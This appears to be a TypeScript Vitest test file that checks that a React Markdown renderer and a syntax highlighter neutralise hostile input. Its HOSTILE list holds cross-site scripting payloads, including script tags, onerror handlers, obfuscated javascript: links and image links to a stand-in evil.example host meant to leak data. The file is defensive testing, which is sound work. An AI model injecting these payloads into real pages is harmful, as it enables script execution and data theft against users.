import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';

import { Markdown } from '@/components/Markdown';
import { highlight } from '@/lib/highlight';

const render = (text: string): string => renderToStaticMarkup(createElement(Markdown, { text }));

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](java&#115;cript:alert(1))',
  '[a](javascript&colon;alert(1))',
  '[a](javascript\\:alert(1))',
  '[a](<java\tscript:alert(1)>)',
  '[a](vbscript:x)',
  '[a](data:text/html,<script>alert(1)</script>)',
  '> [a]: javascript:alert(1)\n\n[a]',
  '<javascript:alert(1)>',
  '![a](javascript:alert(1))',
  '![a](https://evil.example/?leak=1)',
  '![a](//evil.example/p.png)',
  '![a][b]\n\n[b]: https://evil.example/p.png',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '[1]\n\n## Sources\n\n1. "><img src=x onerror=alert(1)> [x](javascript:alert(1))',
];

describe('hostile Markdown', () => {
  it.each(HOSTILE)('%s does nothing', (text) => {
    const html = render(text);
    expect(html).not.toMatch(/<(script|iframe|img|object|embed|svg)/i);
    expect(html).not.toMatch(/(href|src)="\s*(java|vbscript|data)/i);
    expect(html).not.toMatch(/<[^>]*\son[a-z]+=/i);
  });

  it('leads elsewhere without telling where from, in a window of its own', () => {
    expect(render('[a](https://ok.example/)')).toContain('target="_blank" rel="noopener noreferrer"');
  });

  it('escapes the code that it colours', () => {
    for (const language of ['python', 'bash', 'json', 'sql', 'sh', 'py'])
      expect(highlight('x = "</span><img src=x onerror=alert(1)>" # <script>', language)).not.toMatch(/<(img|script)/);
  });
});
